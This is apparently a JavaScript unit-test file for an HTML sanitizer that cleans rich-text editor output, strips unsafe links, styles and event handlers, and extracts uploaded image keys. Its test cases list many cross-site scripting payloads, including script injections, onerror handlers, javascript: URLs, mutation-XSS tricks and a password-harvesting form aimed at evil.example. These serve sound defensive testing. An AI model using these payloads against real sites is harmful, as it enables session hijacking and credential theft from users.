import { cleanRichText, picturesIn, plainTextOf } from './rich-text.js';

const KEY = `u/ab/${'0123456789abcdef'.repeat(2)}.jpg`;

describe('rich text', () => {
  it('keeps what the editor makes', () => {
    const text =
      '<h2 style="text-align:center">眼底相机</h2><p>A <strong>bold</strong>, <em>slanted</em> <u>word</u><br /></p>' +
      '<ul><li>one</li></ul><p><span style="color:#ff0000">red</span></p>' +
      `<img src="/files/${KEY}" alt="front" style="width:50%" />` +
      '<table><tbody><tr><th colspan="2">a</th></tr></tbody></table>';
    expect(cleanRichText(text)).toBe(text);
  });

  it('makes links that cannot reach back', () => {
    expect(
      cleanRichText('<a href="https://fovea.example/a?b=1&amp;c=2" target="_self" onclick="x()">x</a>'),
    ).toBe(
      '<a href="https://fovea.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="/files/u/../../x" onerror=alert(1)>',
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    `<img src="/files/${KEY}?x" onload="alert(1)">`,
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>body{background:url(https://evil.example)}</style>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ])('makes %s harmless', (hostile) => {
    const cleaned = cleanRichText(`<p>before</p>${hostile}<p>after</p>`);
    expect(cleaned).toMatch(/^<p>before<\/p>/);
    // What is left of it may be text, in which every angle is escaped.
    expect(cleaned.replace(/<\/?p>/g, '')).not.toMatch(/<|evil\.example.*>/);
    expect(cleanRichText(cleaned)).toBe(cleaned);
  });

  it.each([
    ['<a href="javascript:alert(1)">x</a>'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['<a href=" &#14; javascript:alert(1)">x</a>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['<a href="vbscript:x">x</a>'],
    ['<a href="//evil.example">x</a>'],
  ])('takes the address out of %s', (link) => {
    expect(cleanRichText(link)).toBe('<a rel="noopener noreferrer nofollow" target="_blank">x</a>');
  });

  it.each([
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="text-align:expression(alert(1))">x</p>',
    '<p class="modal" id="app" data-x="1" onmouseover="x()" contenteditable>x</p>',
  ])('takes style and hooks out of %s', (text) => {
    expect(cleanRichText(text)).toBe('<p>x</p>');
  });

  it('bears texts that are deep, long, or no HTML at all', () => {
    const deep = cleanRichText('<blockquote>'.repeat(5_000));
    expect(deep.match(/<blockquote>/g)?.length ?? 0).toBeLessThanOrEqual(30);
    expect(cleanRichText('a < b && c > d')).toBe('a &lt; b &amp;&amp; c &gt; d');
    expect(cleanRichText('')).toBe('');
  });

  it('names the uploads that it shows, each once', () => {
    const cleaned = cleanRichText(
      `<p><img alt="x" src="/files/${KEY}"><img src="/files/${KEY}.480.webp"><img src="/files/demo/a.webp"></p>`,
    );
    expect(picturesIn(cleaned)).toEqual([KEY]);
  });

  it('has words without any markup', () => {
    expect(plainTextOf('<h2>Fundus</h2><p>a &lt;b&gt; &amp; c<br>d</p><script>x</script>')).toBe(
      'Fundus a <b> & c d',
    );
  });
});
